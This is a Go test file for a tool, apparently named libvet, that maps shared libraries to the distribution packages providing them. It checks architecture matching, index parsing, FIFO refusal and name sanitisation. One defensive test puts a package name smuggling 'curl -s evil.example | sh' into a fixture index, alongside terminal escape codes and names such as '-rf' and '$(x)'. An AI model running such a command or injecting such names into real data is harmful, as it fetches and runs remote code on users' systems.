package host

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"
	"time"
	"unicode"
)

func TestProvisionFits(t *testing.T) {
	p := func(bits int, arch string) Provision {
		return Provision{Soname: "libz.so.1", Bits: bits, Package: Package{Name: "z", Arch: arch}}
	}
	for _, tt := range []struct {
		p    Provision
		arch string
		want bool
	}{
		{p(0, "x86_64"), "x86_64", true},
		{p(0, "x86_64"), "i686", false},
		{p(0, "x86"), "i686", true},            // apk
		{p(0, "amd64"), "x86_64", true},        // dpkg
		{p(32, "i686"), "i686", true},          // rpm
		{p(64, "i686"), "i686", false},         // a 64-bit provide in a 32-bit package: not for i686
		{p(32, "x86_64"), "i686", true},        // Arch's lib32-* (multilib)
		{p(32, "x86_64"), "x86_64", false},     // 32-bit library, 64-bit binary
		{p(0, "x86_64"), "aarch64", false},     // another machine
		{p(0, "noarch"), "aarch64", true},      // every architecture
		{p(0, "any"), "armv7l", true},          // pacman's
		{p(32, "aarch64"), "armv7l", true},     // armhf multilib on arm64
		{p(0, "armv7"), "armv7l", true},        // apk
		{p(0, "ppc64el"), "ppc64le", true},     // dpkg
		{p(64, "x86_64"), "", true},            // unknown binary architecture: anything
		{p(0, "sparc64"), "mips", true},        // an architecture libvet has no names for
		{p(0, "X86_64"), "x86_64", true},       // case
		{p(0, "x86_64_v3"), "x86_64", false},   // not a spelling libvet knows
		{p(0, "loong64"), "loongarch64", true}, // dpkg
	} {
		if got := tt.p.Fits(tt.arch); got != tt.want {
			t.Errorf("%v.Fits(%q) = %v, want %v", tt.p, tt.arch, got, tt.want)
		}
	}
}

// TestReadProviders reads the fixture roots' indexes through
// ReadProviders, the way libvet host does: only the sonames asked for,
// for a binary's architecture.
func TestReadProviders(t *testing.T) {
	for _, tt := range []struct {
		root, soname, arch string
		want               []string // name version (manager)
	}{
		{"../testdata/roots/alpine", "libz.so.1", "x86_64", []string{"zlib 1.3.1-r1 (apk)"}},
		{"../testdata/roots/alpine", "libz.so.1", "aarch64", nil},
		{"../testdata/roots/alpine", "libcrypto.so.3", "x86_64", nil}, // not asked for: see below
		{"testdata/pacmansync/root", "libvetdemo.so.1", "x86_64", []string{"libvetdemo 1.0.0-1 (pacman)"}},
		{"testdata/pacmansync/root", "libvetdemo.so.1", "i686", []string{"lib32-libvetdemo 1.0.0-1 (pacman)"}},
		{"testdata/rpmrepo/dnf", "libvetdemo.so.1", "x86_64", []string{"libvetdemo 2:1.0-3.libvet (dnf)"}},
		{"testdata/rpmrepo/dnf", "libvetdemo.so.1", "i686", []string{"libvetdemo 2:1.0-3.libvet (dnf)"}},
		{"testdata/rpmrepo/zypper", "libvet+extra-2.5.so", "x86_64", []string{"libvet+extra 0.5-1 (zypper)"}},
		{"testdata/rpmrepo/zypper", "libvet+extra-2.5.so", "i686", nil},
	} {
		asked := []string{tt.soname}
		if tt.soname == "libcrypto.so.3" {
			asked = []string{"libz.so.1"}
		}
		p, problems := ReadProviders(tt.root, asked)
		if len(problems) > 0 || len(p.Files) == 0 {
			t.Fatalf("%s: files %v, problems %v", tt.root, p.Files, problems)
		}
		var got []string
		for _, pr := range p.For(tt.soname, tt.arch) {
			got = append(got, pr.Name+" "+pr.Version+" ("+pr.Manager+")")
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("%s: For(%s, %s) = %v, want %v", tt.root, tt.soname, tt.arch, got, tt.want)
		}
	}
	if p, problems := ReadProviders("../testdata/roots/glibc", []string{"libz.so.1"}); len(problems) > 0 || len(p.Files) > 0 || p.For("libz.so.1", "") != nil {
		t.Errorf("a root without indexes: %v, %v", p, problems)
	}
	var none *Providers
	if none.For("libz.so.1", "x86_64") != nil {
		t.Error("nil Providers provide")
	}
}

// TestFIFOsInRoot: a FIFO where an index, a database or ld.so.cache is
// expected is refused, not opened (opening it would wait forever).
func TestFIFOsInRoot(t *testing.T) {
	root := t.TempDir()
	for _, p := range []string{"etc/apk/repositories", "var/cache/apk/APKINDEX.00000000.tar.gz", "etc/ld.so.cache",
		"var/lib/pacman/sync/core.db", "var/lib/dpkg/status", "lib/apk/db/installed", "opt/x/.spack-db/index.json"} {
		full := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := syscall.Mkfifo(full, 0o644); err != nil {
			t.Skipf("mkfifo: %v", err)
		}
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		p, problems := ReadProviders(root, []string{"libz.so.1"})
		if len(problems) != 2 || len(p.Files) != 0 || !p.Failed { // files that could not be read are not "read"
			t.Errorf("ReadProviders: files %v, problems %v", p.Files, problems)
		}
		for _, err := range problems {
			if !errors.Is(err, errNotRegular) {
				t.Errorf("problem %v does not wrap errNotRegular", err)
			}
		}
		if l := NewLinux(Options{Root: root}); len(l.Problems()) != 1 {
			t.Errorf("NewLinux problems: %v", l.Problems())
		}
		o, problems := ReadOwners(root)
		if len(problems) == 0 {
			t.Error("ReadOwners: no problem for a FIFO status file")
		}
		if _, ok := o.Owner("/opt/x/lib/libz.so.1"); ok {
			t.Error("an owner from a FIFO Spack database")
		}
	}()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		t.Fatal("reading a root with FIFOs hangs")
	}
}

// TestReadProvidersHostileNames: a package name that is not one is left
// out (it would reach a command line), and control characters in the
// other fields are replaced.
func TestReadProvidersHostileNames(t *testing.T) {
	root := t.TempDir()
	index := "P:zlib; curl -s evil.example | sh #\nV:1\nA:x86_64\np:so:libz.so.1=1\n\n" +
		"P:libffi\nV:3.4\x1b[2J\nA:x86_64\np:so:libffi.so.8=8\n\n"
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range map[string]string{"DESCRIPTION": "v3.20-\x1b]0;x\x07", "APKINDEX": index} {
		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
		tw.Write([]byte(body))
	}
	tw.Close()
	gz.Close()
	dir := filepath.Join(root, "var/cache/apk")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "APKINDEX.01234567.tar.gz"), buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	p, problems := ReadProviders(root, []string{"libz.so.1", "libffi.so.8"})
	if len(problems) != 1 || !strings.Contains(problems[0].Error(), "is not a name a package manager takes") {
		t.Errorf("problems %v", problems)
	}
	if got := p.For("libz.so.1", "x86_64"); got != nil {
		t.Errorf("libz.so.1: %v", got)
	}
	got := p.For("libffi.so.8", "x86_64")
	if len(got) != 1 || strings.ContainsFunc(got[0].Version+got[0].Repo, unicode.IsControl) {
		t.Errorf("libffi.so.8: %q", got)
	}
	for name, want := range map[string]bool{"zlib": true, "libstdc++": true, "lib32-glibc": true, "python3.12": true, "perl-Foo@bar": false, "@group": false, ".hidden": false,
		"": false, "-rf": false, "a b": false, "a;b": false, "a/b": false, "$(x)": false, "é": false} {
		if packageNameOK(name) != want {
			t.Errorf("packageNameOK(%q) = %v", name, !want)
		}
	}
}
